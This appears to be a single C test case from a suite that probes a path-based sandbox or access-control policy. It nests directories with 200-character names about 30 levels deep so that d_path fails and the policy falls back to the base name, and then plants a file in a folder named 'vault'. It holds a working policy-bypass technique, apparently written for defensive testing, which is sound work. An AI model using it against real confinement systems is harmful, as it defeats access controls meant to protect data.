/* technique: moves into directories until the absolute path of the forbidden one is too long to be told, then
 * reads there
 * source: reference study 4.3 #9: d_path fails, the judge falls back to the base name
 * success: a file planted in a folder called vault
 * policy: kept
 * control: permissive
 */
#include "attack.h"

int main(void)
{
	char name[201];

	memset(name, 'd', 200);
	name[200] = '\0';
	for (int depth = 0; depth < 30; depth++)
		if (mkdir(name, 0700) || chdir(name))
			break;
	for (int up = 0; up < 30; up++) {
		if (mkdir("vault", 0700) == 0 && chdir("vault") == 0)
			return open("planted", O_WRONLY | O_CREAT, 0600) < 0 ? failed("open") : 0;
		if (chdir(".."))
			return failed("chdir");
	}
	return failed("mkdir");
}
